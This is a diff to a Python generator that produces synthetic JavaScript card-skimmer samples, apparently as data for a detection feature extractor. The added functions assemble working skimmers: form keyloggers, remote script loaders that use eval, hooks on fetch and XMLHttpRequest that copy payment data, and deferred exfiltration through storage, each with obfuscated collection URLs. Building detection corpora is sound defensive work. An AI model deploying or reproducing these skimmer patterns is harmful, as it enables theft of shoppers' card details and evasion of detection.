@@ -11,6 +11,7 @@ Nothing here is executed; the text is only parsed by the feature extractor.
 
 from __future__ import annotations
 
+import base64
 import random
 import string
 
@@ -377,7 +378,7 @@ def _encode(rng: random.Random, n: _Names, data: str) -> tuple[str, str]:
 
 
 def _exfil(rng: random.Random, n: _Names, payload: str) -> str:
-    url = _q(rng, gate_url(rng))
+    url = url_expr(rng, gate_url(rng)) if rng.random() < 0.4 else _q(rng, gate_url(rng))
     style = rng.randint(0, 8)
     param = rng.choice(["data", "d", "info", "q", "hash", "img", "token", "v", "s"])
     if style == 0:
@@ -576,6 +577,192 @@ def skimmer_object_style(rng: random.Random) -> str:
     )
 
 
+def url_expr(rng: random.Random, url: str) -> str:
+    """A JavaScript expression that yields ``url``: a literal, or built at run time."""
+    style = rng.randint(0, 6)
+    if style <= 1:
+        return _q(rng, url)
+    if style == 2:
+        return f"atob({_q(rng, base64.b64encode(url.encode()).decode())})"
+    if style == 3:
+        return "String.fromCharCode(" + ",".join(str(ord(c)) for c in url) + ")"
+    if style == 4:
+        return f"{_q(rng, url[::-1])}.split('').reverse().join('')"
+    if style == 5:
+        cuts = sorted(rng.sample(range(1, len(url)), min(3, len(url) - 1)))
+        pieces = [url[a:b] for a, b in zip([0, *cuts], [*cuts, len(url)], strict=True)]
+        return "[" + ", ".join(_q(rng, x) for x in pieces) + "].join('')"
+    cut = rng.randint(1, len(url) - 1)
+    return f"{_q(rng, url[:cut])} + {_q(rng, url[cut:])}"
+
+
+def keylogger_skimmer(rng: random.Random) -> str:
+    """Records what is typed into form fields and sends the buffer in batches."""
+    n = _Names(rng)
+    buf, ev, flush = n("buffer"), n("ev"), n("flush")
+    event = rng.choice(["keyup", "keydown", "input", "change", "blur", "keypress"])
+    what = rng.choice(
+        [
+            f"{ev}.target.name + '=' + {ev}.target.value",
+            f"({ev}.target.id || {ev}.target.name) + ':' + {ev}.target.value",
+            f"{ev}.key",
+            f"String.fromCharCode({ev}.which || {ev}.keyCode)",
+        ]
+    )
+    keyed = rng.random() < 0.5
+    store = (
+        f"{buf}[{ev}.target.name || {ev}.target.id] = {ev}.target.value;"
+        if keyed
+        else f"{buf}.push({what});"
+    )
+    init = "{}" if keyed else "[]"
+    target = rng.choice(
+        [
+            "document",
+            "document.querySelector('form')",
+            "document.getElementById('checkout')",
+            "window",
+        ]
+    )
+    code, payload = _encode(rng, n, f"JSON.stringify({buf})")
+    url = url_expr(rng, gate_url(rng))
+    sender = rng.choice(
+        [
+            f"new Image().src = {url} + '?k=' + {payload};",
+            f"navigator.sendBeacon({url}, {payload});",
+            f"var r = new XMLHttpRequest(); r.open('POST', {url}); r.send({payload});",
+            f"fetch({url}, {{ method: 'POST', body: {payload}, mode: 'no-cors' }});",
+        ]
+    )
+    trigger = rng.choice(
+        [
+            f"setInterval({flush}, {rng.choice([2000, 4000, 8000])});",
+            f"window.addEventListener('beforeunload', {flush});",
+            f"document.addEventListener('submit', {flush}, true);",
+        ]
+    )
+    body = (
+        f"var {buf} = {init};\n"
+        f"{target}.addEventListener({_q(rng, event)}, function ({ev}) {{\n"
+        f"  if (!{ev}.target || !{ev}.target.tagName) return;\n  {store}\n}}, true);\n"
+        f"function {flush}() {{\n  if (!Object.keys({buf}).length) return;\n{code}\n"
+        f"  {sender}\n  {buf} = {init};\n}}\n{trigger}"
+    )
+    if rng.random() < 0.6:
+        body = _page_check(rng, body)
+    return f"(function () {{\n{body}\n}})();" if rng.random() < 0.6 else body
+
+
+def loader(rng: random.Random) -> str:
+    """Loads the skimmer proper from a remote host, usually only on checkout pages."""
+    n = _Names(rng)
+    el = n("s")
+    src = url_expr(rng, gate_url(rng))
+    how = rng.randint(0, 3)
+    if how == 0:
+        code = (
+            f"var {el} = document.createElement('script');\n{el}.type = 'text/javascript';\n"
+            f"{el}.async = true;\n{el}.src = {src};\n"
+            f"(document.head || document.getElementsByTagName('head')[0]).appendChild({el});"
+        )
+    elif how == 1:
+        code = f"document.write('<scr' + 'ipt src=\"' + {src} + '\"></scr' + 'ipt>');"
+    elif how == 2:
+        x = n("x")
+        run = rng.choice(["eval", "window.eval", "new Function"])
+        call = "()" if run == "new Function" else ""
+        code = (
+            f"var {x} = new XMLHttpRequest();\n{x}.open('GET', {src}, true);\n"
+            f"{x}.onload = function () {{ {run}({x}.responseText){call}; }};\n{x}.send();"
+        )
+    else:
+        code = (
+            f"fetch({src}).then(function (r) {{ return r.text(); }}).then(function (t) {{ "
+            f"var {el} = document.createElement('script'); {el}.text = t; "
+            f"document.body.appendChild({el}); }});"
+        )
+    if rng.random() < 0.8:
+        code = _page_check(rng, code)
+    return code
+
+
+def api_hook_skimmer(rng: random.Random) -> str:
+    """Wraps XMLHttpRequest.send, fetch or form submission to copy checkout requests."""
+    n = _Names(rng)
+    orig, body = n("orig"), n("body")
+    url = url_expr(rng, gate_url(rng))
+    leak = rng.choice(
+        [
+            f"new Image().src = {url} + '?d=' + btoa(unescape(encodeURIComponent({body})));",
+            f"navigator.sendBeacon({url}, {body});",
+            f"var q = new XMLHttpRequest(); q.open('POST', {url}); q.send({body});",
+        ]
+    )
+    cond = rng.choice(
+        [
+            f"/card|cc_|cvv|cvc|payment|billing/i.test({body})",
+            f"{body}.indexOf('payment') > -1",
+            f"{body}.length > 20",
+        ]
+    )
+    style = rng.randint(0, 2)
+    if style == 0:
+        return (
+            f"var {orig} = XMLHttpRequest.prototype.send;\n"
+            f"XMLHttpRequest.prototype.send = function ({body}) {{\n"
+            f"  try {{ if ({body} && {cond}) {{ {leak} }} }} catch (e) {{}}\n"
+            f"  return {orig}.apply(this, arguments);\n}};"
+        )
+    if style == 1:
+        return (
+            f"var {orig} = window.fetch;\nwindow.fetch = function (u, o) {{\n"
+            f"  var {body} = o && typeof o.body === 'string' ? o.body : '';\n"
+            f"  try {{ if ({cond}) {{ {leak} }} }} catch (e) {{}}\n"
+            f"  return {orig}.apply(this, arguments);\n}};"
+        )
+    return (
+        f"var {orig} = HTMLFormElement.prototype.submit;\n"
+        f"HTMLFormElement.prototype.submit = function () {{\n"
+        f"  var {body} = [].map.call(this.elements, function (e) {{ return e.name + '=' + e.value; }}).join('&');\n"
+        f"  try {{ if ({cond}) {{ {leak} }} }} catch (e) {{}}\n"
+        f"  return {orig}.call(this);\n}};"
+    )
+
+
+def deferred_skimmer(rng: random.Random) -> str:
+    """Saves field values on change into storage, sends them later from another page."""
+    n = _Names(rng)
+    key = _q(rng, rng.choice(["_gat_cache", "__sess", "checkout_state", "pp_ref", "ux"]))
+    store = rng.choice(["localStorage", "sessionStorage"])
+    fields = rng.sample(CARD_FIELDS, rng.randint(2, 5))
+    sel = _q(rng, ", ".join(f"[name='{f}']" for f in fields))
+    send = n("send")
+    url = url_expr(rng, gate_url(rng))
+    trigger = rng.choice(
+        [f"setTimeout({send}, 5000);", f"window.addEventListener('load', {send});"]
+    )
+    return (
+        f"document.addEventListener('change', function (e) {{\n"
+        f"  var t = e.target;\n  if (!t.matches || !t.matches({sel})) return;\n"
+        f"  var d = JSON.parse({store}.getItem({key}) || '{{}}');\n"
+        f"  d[t.name] = t.value;\n  {store}.setItem({key}, JSON.stringify(d));\n}});\n"
+        f"function {send}() {{\n  var v = {store}.getItem({key});\n  if (!v) return;\n"
+        f"  var i = new Image();\n  i.src = {url} + '?' + encodeURIComponent(btoa(v));\n"
+        f"  {store}.removeItem({key});\n}}\n{trigger}"
+    )
+
+
 def generate(rng: random.Random) -> str:
     """A skimmer in one of the generator's layouts."""
-    return skimmer_object_style(rng) if rng.random() < 0.25 else skimmer(rng)
+    r = rng.random()
+    if r < 0.2:
+        return skimmer_object_style(rng)
+    if r < 0.32:
+        return keylogger_skimmer(rng)
+    if r < 0.42:
+        return loader(rng)
+    if r < 0.52:
+        return api_hook_skimmer(rng)
+    if r < 0.6:
+        return deferred_skimmer(rng)
+    return skimmer(rng)
